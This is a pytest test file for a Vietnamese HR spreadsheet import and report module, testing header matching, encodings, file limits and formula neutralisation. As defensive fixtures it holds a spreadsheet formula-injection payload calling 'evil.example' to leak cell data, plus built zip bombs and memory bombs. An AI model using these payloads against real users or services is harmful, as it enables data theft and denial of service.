"""Reading the staff spreadsheet HR already keeps, writing reports, and the template (provisioning/spreadsheets.py).

Every input file is built here: openpyxl for XLSX, plain bytes for CSV."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import tracemalloc
import unicodedata
import zipfile

import openpyxl
import pytest
from django.utils import translation
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from provisioning.common import spreadsheets
from provisioning.common.spreadsheets import FIELDS, FileError, neutralise, open_table, template, write_report

VI_HEADERS = ["Mã cán bộ", "Họ và tên", "Đơn vị", "Chức vụ", "Email cá nhân", "Số điện thoại"]
EN_HEADERS = ["Employee code", "Full name", "Unit", "Position", "Personal email", "Phone"]
HOANG = ["QT-000123", "Nguyễn Tiến Hoàng", "000.00.01.H45", "Chuyên viên", "hoang.nguyen@gmail.com", "0912 345 678"]
HOANG_RECORD = {"employee_code": "QT-000123", "full_name": "Nguyễn Tiến Hoàng", "unit": "000.00.01.H45",
                "position": "Chuyên viên", "personal_email": "hoang.nguyen@gmail.com", "phone": "0912 345 678"}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def xlsx_bytes(rows) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows, *, delimiter=",", encoding="utf-8") -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return text.getvalue().encode(encoding)


def read(data: bytes, filename: str) -> list[tuple[int, dict]]:
    return list(open_table(io.BytesIO(data), filename).rows())


def refusal(data: bytes, filename: str) -> str:
    with pytest.raises(FileError) as caught:
        read(data, filename)
    return caught.value.message


# --- headers --------------------------------------------------------------------------------------------

def test_hr_sheet_with_vietnamese_headers_is_read_with_spreadsheet_row_numbers():
    table = open_table(io.BytesIO(xlsx_bytes([VI_HEADERS, HOANG])), "danh-sach.xlsx")
    assert table.headers == VI_HEADERS
    assert list(table.mapping.values()) == ["employee_code", "full_name", "unit", "position", "personal_email",
                                            "phone"]
    assert table.unknown_columns == []
    assert list(table.rows()) == [(2, HOANG_RECORD)]


def test_sheet_with_english_headers_is_read():
    assert read(csv_bytes([EN_HEADERS, HOANG]), "staff.csv") == [(2, HOANG_RECORD)]


@pytest.mark.parametrize(("header", "expected"), [
    ("Ho va ten", "full_name"),
    ("HỌ VÀ TÊN", "full_name"),
    (" Họ  và tên ", "full_name"),
    (unicodedata.normalize("NFD", "Họ và tên"), "full_name"),
    ("ho ten", "full_name"),
    ("Họ", "family_name"),
    ("ho", "family_name"),
    ("Ten dem", "middle_name"),
    ("TÊN", "given_name"),
    ("ma can bo", "employee_code"),
    ("Mã cán bộ (*)", "employee_code"),
    ("EMPLOYEE ID", "employee_code"),
    ("don vi", "unit"),
    ("SDT", "phone"),
    ("di dong", "phone"),
    ("so cccd", "citizen_id"),
    ("Số định danh cá nhân", "citizen_id"),
    ("ngach", "category"),
    ("personal_email", "personal_email"),
    ("Thu dien tu ca nhan", "personal_email"),
])
def test_headers_match_whatever_the_case_spacing_or_diacritics(header, expected):
    assert spreadsheets._field_for(header) == expected


def test_no_alias_means_two_fields_once_diacritics_are_gone():
    for name, aliases in spreadsheets.ALIASES.items():
        for alias in aliases:
            assert spreadsheets._field_for(alias) == name, alias
            assert spreadsheets._field_for(spreadsheets._without_diacritics(alias.casefold())) == name, alias


def test_a_column_nobody_knows_is_reported_not_refused():
    table = open_table(io.BytesIO(xlsx_bytes([[*VI_HEADERS, "Ghi chú"], [*HOANG, "nghỉ phép"]])), "a.xlsx")
    assert table.unknown_columns == ["Ghi chú"]
    assert list(table.rows()) == [(2, HOANG_RECORD)]


def test_explicit_name_parts_are_enough_without_a_full_name_column():
    rows = read(csv_bytes([["Mã CB", "Họ", "Tên đệm", "Tên", "Mã đơn vị"],
                           ["QT-000124", "Niê", "", "H'Hen", "000.00.01.H45"]]), "a.csv")
    assert rows == [(2, {"employee_code": "QT-000124", "family_name": "Niê", "middle_name": "",
                         "given_name": "H'Hen", "unit": "000.00.01.H45"})]


def test_missing_required_columns_are_named():
    message = refusal(xlsx_bytes([["Họ và tên", "Chức vụ"], ["Nguyễn Tiến Hoàng", "Chuyên viên"]]), "a.xlsx")
    assert "Employee code" in message
    assert "Unit" in message
    assert "Full name" not in message


def test_a_family_name_without_a_given_name_is_not_a_name():
    message = refusal(csv_bytes([["Mã cán bộ", "Họ", "Đơn vị"], ["QT-1", "Niê", "000.00.01.H45"]]), "a.csv")
    assert "Full name (or Family name and Given name)" in message
    assert "Employee code" not in message


def test_two_columns_holding_the_same_field_are_refused_naming_both():
    message = refusal(xlsx_bytes([["Mã cán bộ", "Họ và tên", "Email", "Đơn vị", "Email cá nhân"]]), "a.xlsx")
    assert "“Email” (column C)" in message
    assert "“Email cá nhân” (column E)" in message
    assert "Personal email" in message


def test_a_title_row_above_the_headers_is_passed_over():
    rows = read(xlsx_bytes([["DANH SÁCH CÁN BỘ SỞ TÀI CHÍNH"], [], VI_HEADERS, HOANG]), "a.xlsx")
    assert rows == [(4, HOANG_RECORD)]


def test_empty_rows_are_skipped_and_row_numbers_stay_those_of_the_sheet():
    rows = read(xlsx_bytes([[], VI_HEADERS, HOANG, [None, "  "], [], ["QT-2", "Lê Văn An", "000.00.01.H45"]]),
                "a.xlsx")
    assert [number for number, _record in rows] == [3, 6]


def test_a_sheet_with_no_rows_at_all_is_refused():
    assert "no rows" in refusal(xlsx_bytes([]), "a.xlsx")
    assert "no rows" in refusal(b"\r\n\r\n", "a.csv")


def test_an_empty_file_is_refused():
    assert "empty" in refusal(b"", "a.csv")


# --- cells ----------------------------------------------------------------------------------------------

def test_numbers_typed_into_excel_come_back_as_the_digits_hr_typed():
    rows = read(xlsx_bytes([["Mã cán bộ", "Họ và tên", "Đơn vị", "Số điện thoại", "Số CCCD", "Chức vụ",
                             "Loại cán bộ"],
                            [123456, "Lê Văn An", "000.00.01.H45", 912345678.0, 45190000123, dt.date(2024, 5, 1),
                             1.5]]),
                "a.xlsx")
    record = rows[0][1]
    assert record["employee_code"] == "123456"
    assert record["phone"] == "912345678"
    assert record["citizen_id"] == "45190000123"
    assert record["position"] == "2024-05-01"
    assert record["category"] == "1.5"


def test_names_are_nfc_and_trimmed():
    rows = read(csv_bytes([VI_HEADERS, ["QT-1", "  " + unicodedata.normalize("NFD", "Đặng Thị Ngọc") + "\u00a0",
                                        "000.00.01.H45"]]), "a.csv")
    assert rows[0][1]["full_name"] == unicodedata.normalize("NFC", "Đặng Thị Ngọc")


def test_a_formula_cell_is_flagged_not_used():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(VI_HEADERS)
    sheet.append(["QT-1", '=CONCATENATE("Nguyễn", " ", "An")', "000.00.01.H45", "=B2"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    [(number, record)] = read(buffer.getvalue(), "a.xlsx")
    assert number == 2
    assert record["full_name"] == ""
    assert record["position"] == ""
    assert record["__formulas__"] == ["full_name", "position"]
    assert "__control__" not in record


def test_nul_and_control_characters_are_removed_and_flagged():
    data = ("Mã cán bộ,Họ và tên,Đơn vị,Chức vụ\r\n"
            "QT-1,Nguy\x00ễn Văn\x07 An,000.00.01.H45,\"Chuyên\tviên\"\r\n").encode()
    [(number, record)] = read(data, "a.csv")
    assert record["full_name"] == "Nguyễn Văn An"
    assert record["position"] == "Chuyên\tviên"
    assert record["__control__"] == ["full_name"]


def test_a_line_break_at_the_end_of_a_cell_is_just_trimmed():
    [(_number, record)] = read(xlsx_bytes([VI_HEADERS, ["QT-1", "Lê Văn An\n", "000.00.01.H45"]]), "a.xlsx")
    assert record["full_name"] == "Lê Văn An"
    assert "__control__" not in record


# --- CSV encodings and delimiters -----------------------------------------------------------------------

@pytest.mark.parametrize(("data", "label"), [
    (csv_bytes([VI_HEADERS, HOANG]), "UTF-8"),
    (codecs.BOM_UTF8 + csv_bytes([VI_HEADERS, HOANG]), "UTF-8 with BOM (Excel's CSV UTF-8)"),
    (csv_bytes([VI_HEADERS, HOANG], delimiter=";"), "semicolons (European Excel)"),
    (csv_bytes([VI_HEADERS, HOANG], delimiter="\t", encoding="utf-16"), "UTF-16 LE, tabs (Excel Unicode Text)"),
    (codecs.BOM_UTF16_BE + csv_bytes([VI_HEADERS, HOANG], delimiter="\t", encoding="utf-16-be"), "UTF-16 BE"),
])
def test_csv_in_the_encodings_excel_writes_is_read(data, label):
    assert read(data, "a.csv") == [(2, HOANG_RECORD)], label


@pytest.mark.parametrize("data", [
    ("Ma\u0303 ca\u0301n bô\u0323,Ho\u0323 va\u0300 tên,Đơn vi\u0323\r\n").encode("cp1258"),
    "Mã,Tên,Đơn vị\r\nQT-1,Lê,Sở Nội vụ\r\n".encode("latin-1", errors="replace"),
    csv_bytes([VI_HEADERS, HOANG], encoding="utf-16-le"),  # UTF-16 without its BOM
])
def test_csv_that_is_not_utf8_or_utf16_is_refused_with_how_to_save_it(data):
    assert "CSV UTF-8" in refusal(data, "a.csv")


def test_a_bad_byte_far_down_the_file_is_refused_while_reading():
    data = csv_bytes([VI_HEADERS] + [HOANG] * 2000) + "QT-9,Lê Văn An,000.00.01.H45\r\n".encode("cp1258")
    table = open_table(io.BytesIO(data), "a.csv")
    with pytest.raises(FileError, match="CSV UTF-8"):
        list(table.rows())


# --- file guards ----------------------------------------------------------------------------------------

def test_a_file_over_the_size_limit_is_refused(settings):
    settings.IDM_IMPORT_MAX_BYTES = 1000
    assert "larger than" in refusal(csv_bytes([VI_HEADERS] + [HOANG] * 20), "a.csv")
    assert read(csv_bytes([VI_HEADERS, HOANG]), "a.csv") == [(2, HOANG_RECORD)]


class Stream:
    """An upload that can only be read forwards."""

    def __init__(self, data: bytes):
        self._data = io.BytesIO(data)

    def read(self, size=-1) -> bytes:
        return self._data.read(size)


def test_a_stream_that_cannot_seek_is_measured_in_chunks(settings):
    settings.IDM_IMPORT_MAX_BYTES = 1000
    with pytest.raises(FileError, match="larger than"):
        open_table(Stream(csv_bytes([VI_HEADERS] + [HOANG] * 20)), "a.csv")
    settings.IDM_IMPORT_MAX_BYTES = 100_000
    assert list(open_table(Stream(xlsx_bytes([VI_HEADERS, HOANG])), "a.xlsx").rows()) == [(2, HOANG_RECORD)]


def test_a_file_over_the_row_limit_is_refused_once_the_limit_is_passed(settings):
    settings.IDM_IMPORT_MAX_ROWS = 3
    assert len(read(xlsx_bytes([VI_HEADERS] + [HOANG] * 3), "a.xlsx")) == 3
    rows = open_table(io.BytesIO(xlsx_bytes([VI_HEADERS] + [HOANG] * 4)), "a.xlsx").rows()
    assert [next(rows)[0] for _ in range(3)] == [2, 3, 4]
    with pytest.raises(FileError, match="more than 3 rows"):
        next(rows)


@pytest.mark.parametrize("build,name", [(csv_bytes, "a.csv"), (xlsx_bytes, "a.xlsx")])
def test_a_file_far_over_the_row_limit_is_refused_before_any_row_is_read(settings, build, name):
    # a 1,000,000-row CSV once kept a worker busy for 13 minutes checking rows it would refuse anyway
    settings.IDM_IMPORT_MAX_ROWS = 50
    data = build([VI_HEADERS] + [HOANG] * 200)
    with pytest.raises(FileError, match="more than 50 rows"):
        open_table(io.BytesIO(data), name)  # at opening: rows() is never reached
    settings.IDM_IMPORT_MAX_ROWS = 200
    assert len(list(open_table(io.BytesIO(data), name).rows())) == 200


def workbook_zip(*, sheets: int = 1, shared_strings: list[str] = (), extra: dict[str, bytes] | None = None,
                 main_type: str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                 compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A workbook written part by part (openpyxl would take minutes for 10,000 sheets): a header row in the
    first sheet, every other sheet empty, the given shared strings."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel_ns = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    strings_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    overrides = [f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>']
    overrides += [f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{sheet_type}"/>'
                  for i in range(1, sheets + 1)]
    overrides.append(f'<Override PartName="/xl/sharedStrings.xml" ContentType="{strings_type}"/>')
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
                   'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/'
                   'xml"/>' + "".join(overrides) + "</Types>")
        z.writestr("_rels/.rels", f'<Relationships xmlns="{pkg}"><Relationship Id="rId1" Type="{office}/'
                   'officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f"<workbook {ns} {rel_ns}><sheets>" + "".join(
            f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, sheets + 1)) + "</sheets></workbook>")
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{pkg}">' + "".join(
            f'<Relationship Id="rId{i}" Type="{office}/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, sheets + 1)) + f'<Relationship Id="rS" Type="{office}/sharedStrings" '
                                             'Target="sharedStrings.xml"/></Relationships>')
        header = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{h}</t></is></c>'
                         for i, h in enumerate(VI_HEADERS))
        for i in range(1, sheets + 1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", f"<worksheet {ns}><sheetData>"
                       + (f'<row r="1">{header}</row>' if i == 1 else "") + "</sheetData></worksheet>")
        z.writestr("xl/sharedStrings.xml", f'<sst {ns} count="{len(shared_strings)}">'
                   + "".join(f"<si><t>{t}</t></si>" for t in shared_strings) + "</sst>")
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buffer.getvalue()


def test_the_hand_built_workbook_reads(settings):
    assert open_table(io.BytesIO(workbook_zip(shared_strings=["Nguyễn"] * 10)), "a.xlsx").headers == VI_HEADERS


def test_a_shared_strings_table_too_big_to_hold_is_refused_before_openpyxl_reads_it(settings):
    # the real case (a 36 MB file whose 270 MB table took a worker to 2.38 GB) is bench/import_memory_bomb.py;
    # here the budget is made small instead of the file big
    settings.IDM_IMPORT_MAX_XLSX_STRINGS_MB = 1
    strings = [f"Nguyễn Văn {i:08d} {'x' * 20}" for i in range(60_000)]  # about 15 MB once in openpyxl
    data = workbook_zip(shared_strings=strings)
    assert len(data) < settings.IDM_IMPORT_MAX_BYTES
    tracemalloc.start()
    try:
        with pytest.raises(FileError) as caught:
            open_table(io.BytesIO(data), "a.xlsx")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "shared-strings table" in caught.value.message and "1.0\xa0MB" in caught.value.message
    assert peak < 4 * 1024 * 1024  # read as a stream, a chunk at a time, and stopped once over the budget
    settings.IDM_IMPORT_MAX_XLSX_STRINGS_MB = 40
    assert open_table(io.BytesIO(data), "a.xlsx").headers == VI_HEADERS


def test_a_workbook_with_macros_is_refused_by_its_name_or_its_content():
    assert "macros" in refusal(xlsx_bytes([VI_HEADERS, HOANG]), "danh sach.xlsm")
    assert "macros" in refusal(xlsx_bytes([VI_HEADERS, HOANG]), "mau.XLTM")
    renamed = workbook_zip(extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
                           main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert "macros" in refusal(renamed, "danh sach.xlsx")
    assert "macros" in refusal(workbook_zip(extra={"xl/vbaProject.bin": b"macro"}), "upload")


def test_a_workbook_of_ten_thousand_sheets_is_refused_from_its_manifest():
    message = refusal(workbook_zip(sheets=10_000, compression=zipfile.ZIP_STORED), "a.xlsx")
    assert "10,000 sheets" in message and "at most 50" in message
    assert open_table(io.BytesIO(workbook_zip(sheets=3)), "a.xlsx").headers == VI_HEADERS


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    """A copy of the workbook `data` with one part replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for item in source.infolist():
            copy.writestr(item.filename, content if item.filename == name else source.read(item.filename))
    return out.getvalue()


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])
def test_a_refused_workbook_is_one_log_line_not_a_traceback(part, caplog):
    caplog.set_level("DEBUG")
    refusal(with_part(xlsx_bytes([VI_HEADERS, HOANG]), part, b"<damaged"), "a.xlsx")
    assert all(record.exc_info is None and "\n" not in record.getMessage() for record in caplog.records)


def test_a_zip_bomb_is_refused_before_openpyxl_opens_it():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            chunk = b"0" * (1024 * 1024)
            for _ in range(50):
                entry.write(chunk)
    assert len(buffer.getvalue()) < 200_000
    assert "unpacks to far more data" in refusal(buffer.getvalue(), "a.xlsx")


def test_an_xlsx_that_unpacks_to_too_much_in_total_is_refused(monkeypatch):
    monkeypatch.setattr(spreadsheets, "_MAX_UNPACKED", 10_000)
    assert "unpacks to far more data" in refusal(xlsx_bytes([VI_HEADERS] + [HOANG] * 200), "a.xlsx")


@pytest.mark.parametrize("data", [
    b"PK\x03\x04 this is not really a zip",
    xlsx_bytes([VI_HEADERS, HOANG])[:3000],
    b"not a workbook at all",
])
def test_a_damaged_xlsx_is_refused(data):
    assert "not a valid XLSX file" in refusal(data, "a.xlsx")


def test_a_zip_that_is_not_a_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "xin chào")
    assert "not a valid XLSX file" in refusal(buffer.getvalue(), "a.xlsx")


def test_an_old_xls_file_is_refused_with_how_to_save_it():
    assert ".xlsx" in refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "BAO CAO.XLS")
    assert "CSV UTF-8" in refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "upload")


def test_without_a_known_extension_the_content_decides():
    assert read(xlsx_bytes([VI_HEADERS, HOANG]), "upload") == [(2, HOANG_RECORD)]
    assert read(csv_bytes([VI_HEADERS, HOANG]), "danh sach.txt") == [(2, HOANG_RECORD)]


def test_the_callers_file_is_left_open():
    upload = io.BytesIO(csv_bytes([VI_HEADERS, HOANG]))
    table = open_table(upload, "a.csv")
    list(table.rows())
    del table
    assert not upload.closed


def test_a_large_xlsx_streams_in_bounded_memory(tmp_path):
    # 20,000 rows here; bench/import_100k_memory.py measures the 100,000-row case
    path = tmp_path / "big.xlsx"
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(["Mã cán bộ", "Họ và tên", "Đơn vị", "Số điện thoại"])
    for i in range(20_000):
        sheet.append([f"QT-{i:06d}", f"Nguyễn Văn {i}", "000.00.01.H45", 912000000 + i])
    workbook.save(path)
    tracemalloc.start()
    try:
        with path.open("rb") as upload:
            count, last = 0, None
            for row in open_table(upload, "big.xlsx").rows():
                count, last = count + 1, row
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 20_000
    assert last == (20_001, {"employee_code": "QT-019999", "full_name": "Nguyễn Văn 19999", "unit": "000.00.01.H45",
                             "phone": "912019999"})
    assert peak < 30 * 1024 * 1024


# --- reports --------------------------------------------------------------------------------------------

REPORT_ROWS = [
    {"name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "count": 3},
    {"name": "+1", "count": -2},
    {"name": "-2", "count": 2.5},
    {"name": "@x", "count": None},
    {"name": "Nguyễn, \"Tí\"\nHoàng", "count": 0},
]
REPORT_COLUMNS = [("name", "Họ và tên"), ("count", "Số lượng")]


def test_csv_report_neutralises_formulas_and_follows_rfc_4180():
    data = write_report(REPORT_ROWS, REPORT_COLUMNS, "csv")
    assert data.startswith(codecs.BOM_UTF8)
    text = data[len(codecs.BOM_UTF8):].decode("utf-8")
    assert text.startswith("Họ và tên,Số lượng\r\n")
    assert '"Nguyễn, ""Tí""\nHoàng",0\r\n' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1:] == [['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "3"], ["'+1", "-2"],
                        ["'-2", "2.5"], ["'@x", ""], ['Nguyễn, "Tí"\nHoàng', "0"]]


def test_xlsx_report_neutralises_formulas_and_keeps_numbers_numeric():
    data = write_report(REPORT_ROWS, REPORT_COLUMNS, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [cell.value for cell in sheet[1]] == ["Họ và tên", "Số lượng"]
    assert sheet["A1"].font.b
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert values == [['\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', 3], ["'+1", -2], ["'-2", 2.5],
                      ["'@x", None], ['Nguyễn, "Tí"\nHoàng', 0]]
    assert all(sheet.cell(row=r, column=2).data_type == "n" for r in range(2, 5))
    assert all(sheet.cell(row=r, column=1).data_type == "s" for r in range(2, 7))


def test_xlsx_report_survives_characters_xml_cannot_hold():
    data = write_report([{"name": "\x00=1+1"}, {"name": "An\x01"}], [("name", "Tên")], "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet["A2"].value, sheet["A3"].value] == ["'=1+1", "An"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+84912345678", "'+84912345678"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\x00x", "'\x00x"), ("Nguyễn", "Nguyễn"), ("", ""), (None, ""),
    (-2, "-2"), (2.5, "2.5"), (dt.date(2026, 11, 24), "2026-11-24"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@hypothesis_settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text())
def test_no_exported_text_starts_a_formula_and_csv_gives_it_back(text):
    assert not neutralise(text).startswith(DANGEROUS_STARTS)
    data = write_report([{"v": text}], [("v", "v")], "csv")
    [_header, [back]] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert back == neutralise(text)


def test_an_unknown_report_format_is_a_programming_error():
    with pytest.raises(ValueError):
        write_report([], REPORT_COLUMNS, "ods")


# --- template -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("lang", ["vi", "en"])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_template_reads_back_as_its_two_examples(lang, fmt):
    table = open_table(io.BytesIO(template(lang, fmt)), f"mau.{fmt}")
    assert table.headers == list(spreadsheets.TEMPLATE_HEADERS[lang])
    assert sorted(table.mapping.values()) == sorted(FIELDS)
    assert table.unknown_columns == []
    rows = list(table.rows())
    assert [number for number, _record in rows] == [2, 3]
    first, second = (record for _number, record in rows)
    assert first["full_name"] == "Nguyễn Tiến Hoàng"
    assert first["phone"] == "0912 345 678"
    assert (second["full_name"], second["family_name"], second["given_name"]) == ("", "Niê", "H'Hen")
    assert [record for _n, record in rows] == list(spreadsheets.TEMPLATE_EXAMPLES)


@pytest.mark.parametrize(("lang", "sheet_name", "required"), [("vi", "Hướng dẫn", "Bắt buộc"),
                                                              ("en", "Instructions", "Required")])
def test_the_xlsx_template_explains_every_column(lang, sheet_name, required):
    workbook = openpyxl.load_workbook(io.BytesIO(template(lang, "xlsx")))
    assert workbook.sheetnames[1] == sheet_name
    lines = list(workbook[sheet_name].iter_rows(min_row=2, values_only=True))
    assert [line[0] for line in lines] == list(spreadsheets.TEMPLATE_HEADERS[lang])
    assert lines[0][1] == required
    guide = " ".join(line[2] for line in lines)
    for word in ("can_bo", "cong_chuc", "vien_chuc", "hop_dong", "000.00.01.H45", "12"):
        assert word in guide
    assert workbook.worksheets[0]["J2"].number_format == "@"


def test_rows_can_carry_every_cell_under_the_files_own_headers():
    table = open_table(io.BytesIO(xlsx_bytes([[*VI_HEADERS, "Ghi chú"], [*HOANG, "nghỉ phép"]])), "a.xlsx")
    [(number, record)] = list(table.rows(cells=True))
    assert record.pop(spreadsheets.CELLS) == [*("" if c is None else str(c) for c in HOANG),
                                              *([""] * (len(VI_HEADERS) - len(HOANG))), "nghỉ phép"]
    assert (number, record) == (2, HOANG_RECORD)


def test_a_report_cell_neutralised_against_formulas_reads_back_as_it_was_written():
    report = write_report([{"code": "QT-1", "name": "Lê Văn Tám", "unit": "000.00.01.H45", "phone": "+84912345678"}],
                          [("code", "Mã CB"), ("name", "Họ tên"), ("unit", "Đơn vị"), ("phone", "Điện thoại")], "csv")
    assert "'+84912345678" in report.decode("utf-8-sig")
    assert read(report, "r.csv")[0][1]["phone"] == "+84912345678"
